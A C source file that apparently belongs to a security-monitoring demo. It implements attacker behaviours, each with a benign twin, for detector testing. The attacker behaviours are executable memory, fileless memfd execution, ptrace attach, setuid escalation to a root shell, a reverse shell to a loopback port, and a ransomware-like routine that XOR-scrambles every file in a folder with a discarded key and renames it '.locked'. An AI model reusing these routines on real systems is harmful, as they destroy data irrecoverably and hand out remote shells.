/* SPDX-License-Identifier: Apache-2.0 */
/*
 * acts: what attackers' programs do, and their harmless twins, one act a word on the command line.
 * Runs only inside the demo's sandbox; every act is done for real, on files and processes of its
 * own.
 */
#include "base/base.h"
#include "base/fd.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/random.h>
#include <sys/wait.h>
#include <unistd.h>

/* mov eax, 42; ret */
static const unsigned char answer_code[] = { 0xb8, 0x2a, 0, 0, 0, 0xc3 };

static int fail(const char *what)
{
    fprintf(stderr, "%s: %s\n", what, strerror(errno));
    return 1;
}

static int call_code(void *memory)
{
    int (*code)(void);

    memcpy(&code, &memory, sizeof(code));
    return code() == 42 ? 0 : 1;
}

/** Memory that is writable and executable at once, code written into it, and run. */
static int act_wx(char **argv)
{
    void *memory =
        mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

    (void)argv;
    if (memory == MAP_FAILED)
        return fail("mmap");
    memcpy(memory, answer_code, sizeof(answer_code));
    return call_code(memory);
}

/** The twin: as much memory, written and read, never executable. */
static int act_rw(char **argv)
{
    void *memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

    (void)argv;
    if (memory == MAP_FAILED)
        return fail("mmap");
    memcpy(memory, answer_code, sizeof(answer_code));
    return mprotect(memory, 4096, PROT_READ) < 0 ? fail("mprotect") : 0;
}

/** Copy a program into a memfd and run it from there: argv[0] is the program. */
static int act_memfd(char **argv)
{
    RV_AUTO(rv_freep) char *data = NULL;
    static char *environment[] = { NULL };
    size_t len = 0;
    int fd = memfd_create("", 0);

    if (fd < 0 || rv_read_file(AT_FDCWD, argv[0], 64 << 20, &data, &len) < 0 ||
        rv_write_all(fd, data, len) < 0)
        return fail("memfd");
    fexecve(fd, argv, environment);
    return fail("fexecve");
}

/** Put code into another process: attach, change its memory and registers' neighbour, let go. */
static int act_ptrace(char **argv)
{
    pid_t pid = (pid_t)strtol(argv[0], NULL, 10);
    int status;

    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
        return fail("ptrace");
    if (waitpid(pid, &status, 0) < 0)
        return fail("waitpid");
    usleep(20000);
    return ptrace(PTRACE_DETACH, pid, NULL, NULL) < 0 ? fail("detach") : 0;
}

/** From an ordinary user to root through a set-user-id program that gives a shell. */
static int act_become_root(char **argv)
{
    if (setresuid(0, 0, 0) < 0 || setresgid(0, 0, 0) < 0)
        return fail("setresuid");
    execv(argv[0], argv);
    return fail("execv");
}

/** From root to an ordinary user, as daemons do. */
static int act_drop_root(char **argv)
{
    if (setresgid(65534, 65534, 65534) < 0 || setresuid(65534, 65534, 65534) < 0)
        return fail("setresuid");
    execv(argv[0], argv);
    return fail("execv");
}

static int encrypt_one(int dir_fd, const char *name)
{
    RV_AUTO(rv_freep) char *data = NULL;
    RV_AUTO(rv_closep) int fd = -1;
    char locked[300];
    unsigned char key[4096];
    size_t len = 0;

    if (rv_read_file(dir_fd, name, 1 << 20, &data, &len) < 0 || getrandom(key, sizeof(key), 0) < 0)
        return -1;
    for (size_t i = 0; i < len; i++)
        data[i] = (char)(data[i] ^ key[i % sizeof(key)]);
    fd = openat(dir_fd, name, O_WRONLY | O_CLOEXEC);
    if (fd < 0 || rv_write_all(fd, data, len) < 0)
        return -1;
    (void)snprintf(locked, sizeof(locked), "%s.locked", name);
    return renameat(dir_fd, name, dir_fd, locked);
}

/** Overwrite every file of a folder with noise and give it another name. */
static int act_encrypt(char **argv)
{
    DIR *dir = opendir(argv[0]);
    struct dirent *entry;
    unsigned count = 0;

    if (!dir)
        return fail(argv[0]);
    while ((entry = readdir(dir))) {
        if (entry->d_type == DT_REG && !strstr(entry->d_name, ".locked") &&
            encrypt_one(dirfd(dir), entry->d_name) == 0)
            count++;
    }
    closedir(dir);
    printf("%u files\n", count);
    return count > 0 ? 0 : 1;
}

/** A shell whose input and output are a connection to 127.0.0.1:argv[0]. */
static int act_reverse_shell(char **argv)
{
    struct sockaddr_in to = { .sin_family = AF_INET };
    static char *shell[] = { (char *)(uintptr_t) "sh", NULL };
    int fd = socket(AF_INET, SOCK_STREAM, 0);

    to.sin_port = htons((uint16_t)strtoul(argv[0], NULL, 10));
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (fd < 0 || connect(fd, (const struct sockaddr *)&to, sizeof(to)) < 0)
        return fail("connect");
    for (int target = 0; target < 3; target++)
        (void)dup2(fd, target);
    execv("/bin/sh", shell);
    return 1;
}

/** One HTTP request to 127.0.0.1:argv[0] for the path argv[1]. */
static int act_fetch(char **argv)
{
    struct sockaddr_in to = { .sin_family = AF_INET };
    RV_AUTO(rv_closep) int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    char buffer[4096];

    to.sin_port = htons((uint16_t)strtoul(argv[0], NULL, 10));
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (fd < 0 || connect(fd, (const struct sockaddr *)&to, sizeof(to)) < 0)
        return fail("connect");
    if (dprintf(fd, "GET %s HTTP/1.0\r\n\r\n", argv[1]) < 0)
        return fail("request");
    while (read(fd, buffer, sizeof(buffer)) > 0)
        ;
    return 0;
}

static const struct {
    const char *name;
    int arguments;
    int (*act)(char **argv);
} acts[] = {
    { "wx", 0, act_wx },
    { "rw", 0, act_rw },
    { "memfd", 1, act_memfd },
    { "ptrace", 1, act_ptrace },
    { "become-root", 1, act_become_root },
    { "drop-root", 1, act_drop_root },
    { "encrypt", 1, act_encrypt },
    { "reverse-shell", 1, act_reverse_shell },
    { "fetch", 2, act_fetch },
};

int main(int argc, char **argv)
{
    for (size_t i = 0; argc > 1 && i < RV_COUNT(acts); i++) {
        int r;

        if (!rv_streq(acts[i].name, argv[1]) || argc - 2 < acts[i].arguments)
            continue;
        r = acts[i].act(argv + 2);
        if (getenv("REEVE_ACTS_LINGER"))
            sleep(1);
        return r;
    }
    fprintf(stderr, "acts: no such act\n");
    return 2;
}
